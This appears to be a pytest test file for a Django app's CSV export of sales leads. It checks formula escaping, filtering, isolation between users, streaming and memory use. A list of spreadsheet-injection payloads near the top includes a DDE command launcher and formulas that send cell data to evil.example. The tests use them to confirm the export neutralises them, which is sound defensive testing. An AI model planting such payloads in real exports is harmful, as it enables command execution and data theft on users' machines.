import collections
import contextlib
import csv
import io
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests
from django.db import connection
from django.test.utils import CaptureQueriesContext

from config.gateway.wsgi_bridge import THREADS
from extraction import export, listing
from tests import environment
from tests.factories import (
    SENT_AT,
    AgentFactory,
    ConversationFactory,
    CustomerFactory,
    ExtractionFactory,
    PhoneNumberFactory,
)
from tests.rig import Business, Rig, wait_until

# What somebody may write to have a spreadsheet compute, open or send something.
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
    "+1+1",
    "+12025550123+cmd|' /C calc'!A0",
    "+",
    "-2+3",
    "-cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=1+1";=1+1',
]  # fmt: skip
HARMLESS = ["Ada", "+12025550123", "a=b", "a@example.com", "", "'=1", "1-1", 'Zoë, "the" one;\nof two']


class TestCell:
    @pytest.mark.parametrize("text", FORMULAS)
    def test_that_would_be_a_formula_is_text(self, text):
        assert export.cell(text) == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_that_would_be_none_stays_as_it_is(self, text):
        assert export.cell(text) == text

    def test_is_written_as_in_the_api(self):
        values = [None, True, 3, SENT_AT, {}, [], ["name"], {"name": {"by": "key:1"}}]

        assert [export.cell(value) for value in values] == [
            *("", "true", "3", "2026-11-22T12:00:00Z", "", "", '["name"]', '{"name": {"by": "key:1"}}')
        ]


@pytest.fixture
def agent(user):
    return AgentFactory(phone_number=PhoneNumberFactory(user=user))


def lead(agent, **changes):
    customer = CustomerFactory(phone_number=agent.phone_number)
    return ExtractionFactory(conversation=ConversationFactory(agent=agent, customer=customer), **changes)


def table(ask, user, query="") -> list[dict[str, str]]:
    answer = ask.get(f"/users/{user.user_id}/extractions/export?{query}")
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.getvalue().decode(), newline="")))


def exported(ask, user, query="") -> list[str]:
    return [row["extraction_id"] for row in table(ask, user, query)]


@pytest.mark.django_db
class TestExport:
    def test_is_a_file_with_the_names_of_its_columns(self, business, user):
        answer = business.get(f"/users/{user.user_id}/extractions/export")

        assert answer.streaming
        assert answer["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert answer["Content-Disposition"] == 'attachment; filename="leads.csv"'
        assert answer["Cache-Control"] == "no-store"
        assert answer.getvalue().decode() == ",".join(f'"{name}"' for name in export.COLUMNS) + "\r\n"

    def test_has_a_column_for_all_that_the_api_shows(self, business, user, agent):
        made = lead(agent, name=HARMLESS[-1], phone="+12025550123", fit=3, demo_datetime=SENT_AT)

        [row] = table(business, user)
        shown = business.get(f"/users/{user.user_id}/extractions/{made.pk}").json()

        customer = shown.pop("customer")
        shown |= {f"customer_{name}": customer[name] for name in ("name", "username", "address")}
        shown |= {name: customer[name] for name in ("customer_id", "external_id")}
        assert set(row) == set(shown)
        plain = [name for name, value in shown.items() if isinstance(value, str | int) and value is not True]
        assert {name: row[name] for name in plain} == {name: str(shown[name]) for name in plain}
        assert (row["is_current"], row["email"], row["evidence"]) == ("true", "", "")

    def test_has_no_formula_in_it(self, business, user, agent):
        for text in FORMULAS:
            lead(agent, name=text, company=text, intent=text)

        for row in table(business, user):
            for name in ("name", "company", "intent"):
                assert row[name].startswith("'"), row[name]

    def test_goes_over_all_pages_newest_first(self, business, user, agent, monkeypatch):
        monkeypatch.setattr(listing, "PAGE", 3)
        made = [lead(agent, fit=n % 3 + 1).pk for n in range(8)]

        assert exported(business, user) == made[::-1]
        assert exported(business, user, "min_fit=3") == [made[5], made[2]]

    def test_is_narrowed_as_the_list_is(self, business, user, agent):
        one, two = lead(agent, fit=1), lead(agent, fit=3, email="a@example.com")
        failed = lead(agent, status="failed")

        assert exported(business, user, "has_email=true") == [two.pk]
        assert exported(business, user, f"conversation_id={one.conversation_id}") == [one.pk]
        assert exported(business, user, "history=true&status=failed") == [failed.pk]
        assert exported(business, user, f"agent_id={agent.pk}&min_fit=2") == [two.pk]

    def test_holds_nothing_of_others(self, business, user, agent):
        other = ExtractionFactory(name="canary")
        mine = lead(agent)

        assert exported(business, user, "history=true") == [mine.pk]
        for query in (f"conversation_id={other.conversation_id}", f"agent_id={other.conversation.agent_id}"):
            assert exported(business, user, query) == []
        assert business.get(f"/users/{other.user_id}/extractions/export").status_code == 404

    @pytest.mark.parametrize("query", ["limit=10", "cursor=x", "min_fit=9", "order=oldest"])
    def test_refuses_what_it_does_not_understand(self, business, user, query):
        answer = business.get(f"/users/{user.user_id}/extractions/export?{query}", Accept="text/csv")

        assert (answer.status_code, answer["Content-Type"]) == (400, "application/problem+json")
        assert answer.json()["code"] == "validation_error"

    def test_reads_as_many_rows_with_each_statement(self, business, user, agent, monkeypatch):
        monkeypatch.setattr(listing, "PAGE", 2)
        for _ in range(5):
            lead(agent)

        with CaptureQueriesContext(connection) as asked:
            exported(business, user, "min_fit=3")

        statements = [query["sql"] for query in asked if 'FROM "extractions"' in query["sql"]]
        assert len(statements) == 7
        assert all("LIMIT 2" in sql or '"extraction_id" >= ' in sql for sql in statements)


# --- As it is served -----------------------------------------------------------------------------------

_MANY = 40_000
_FILL = """
    WITH people AS (
        INSERT INTO customers (customer_id, phone_number_id, wa_id, username, name, created_at)
        SELECT %(user)s || '-u' || n, %(number)s, n, '', '', now() FROM generate_series(1, %(many)s) AS n
        RETURNING customer_id, wa_id),
    talks AS (
        INSERT INTO conversations (conversation_id, user_id, agent_id, customer_id, customer_phone,
                                   last_sequence_no, is_active, created_at, last_message_at)
        SELECT %(user)s || '-c' || wa_id, %(user)s, %(user)s, customer_id, wa_id, 1, true, now(), now()
          FROM people RETURNING conversation_id, customer_phone)
    INSERT INTO extractions (extraction_id, user_id, conversation_id, status, is_current, upto_sequence_no,
                             name, smart_notification)
    SELECT 'ext_' || %(user)s || lpad(customer_phone, 8, '0'), %(user)s, conversation_id, 'succeeded', true,
           1, 'Ada', repeat('x', 2000)
      FROM talks
"""


@dataclass(frozen=True)
class Served:
    """A business with many leads, and the process that serves their export."""

    rig: Rig
    business: Business
    key: str

    @property
    def url(self) -> str:
        return f"{environment.API_URL}/users/{self.business.user_id}/extractions/export"

    def ask(self, query="") -> requests.Response:
        return requests.get(f"{self.url}?{query}", headers={"x-api-key": self.key}, stream=True, timeout=60)

    def memory(self, what: str) -> int:
        """Give how many KiB of memory the process has (`VmRSS`), or had at most (`VmHWM`)."""
        return sum(
            int(line.split()[1])
            for pid in self._pids()
            for line in Path(f"/proc/{pid}/status").read_text().splitlines()
            if line.startswith(what)
        )

    def forget_most(self) -> None:
        """Have what it had at most begin with what it has now."""
        for pid in self._pids():
            Path(f"/proc/{pid}/clear_refs").write_text("5")

    def _pids(self) -> list[int]:
        own = self.rig.pid("web")
        children = Path(f"/proc/{own}/task/{own}/children").read_text().split()
        return [own, *map(int, children)]


@pytest.fixture(scope="class")
def served(_rig):
    _rig.migrate()
    _rig.start("web")
    business = _rig.business()
    with _rig.connect() as found:
        found.execute(_FILL, {"user": business.user_id, "number": business.phone_number_id, "many": _MANY})
        found.execute("ANALYZE extractions, conversations, customers")
    return Served(_rig, business, _rig.key())


@pytest.mark.long
class TestServed:
    def test_begins_before_the_last_row_is_read(self, served):
        with served.ask() as answer:
            parts = answer.iter_content(10_000)
            beginning = next(parts)
            served.rig.value(
                "UPDATE extractions SET name = 'read later' WHERE extraction_id = %s RETURNING 1",
                f"ext_{served.business.user_id}00000001",
            )
            rest = b"".join(parts)

        rows = list(csv.DictReader(io.StringIO((beginning + rest).decode(), newline="")))
        assert len(rows) == _MANY
        assert (rows[0]["name"], rows[-1]["name"]) == ("Ada", "read later")

    def test_takes_no_more_memory_for_more_rows(self, served):
        size = len(served.ask(f"conversation_id={served.business.user_id}-c1").content)
        with served.ask() as answer:
            next(answer.iter_content(1000))
        served.forget_most()
        before = served.memory("VmRSS")

        with served.ask() as answer:
            # Nobody takes it in for a while, and then somebody does.
            time.sleep(2)
            size = sum(len(part) for part in answer.iter_content(100_000))

        assert size > 80 * 1024 * 1024
        assert served.memory("VmHWM") - before < 24 * 1024

    def test_that_cannot_go_on_does_not_look_complete(self, served):
        with served.ask() as answer:
            parts = answer.iter_content(10_000)
            next(parts)
            with served.rig.connect() as database:
                database.execute("ALTER TABLE extractions RENAME TO away")
                try:
                    with pytest.raises(requests.exceptions.ChunkedEncodingError):
                        collections.deque(parts, maxlen=0)
                finally:
                    database.execute("ALTER TABLE away RENAME TO extractions")

    def test_is_read_no_further_once_the_client_hung_up(self, served):
        for _ in range(20):
            with served.ask() as answer:
                next(answer.iter_content(1000))

        wait_until(lambda: _is_still(served.rig), what="nobody reads leads any more")
        assert served.ask("has_email=true").status_code == 200

    def test_leaves_threads_to_others_while_nobody_takes_it_in(self, served):
        with contextlib.ExitStack() as slow:
            for _ in range(THREADS + 4):
                slow.enter_context(served.ask())

            answers = [
                requests.get(f"{environment.API_URL}/health/live", timeout=60).status_code for _ in range(20)
            ]

        assert answers == [200] * 20
        wait_until(lambda: _is_still(served.rig), what="nobody reads leads any more")


def _is_still(rig: Rig) -> bool:
    """Tell whether nobody has read any lead for a second."""
    return bool(
        rig.value(
            "SELECT count(*) = 0 FROM pg_stat_activity WHERE query LIKE %s AND pid <> pg_backend_pid()"
            " AND query_start > clock_timestamp() - interval '1 second'",
            'SELECT%"extractions"%',
        )
    )
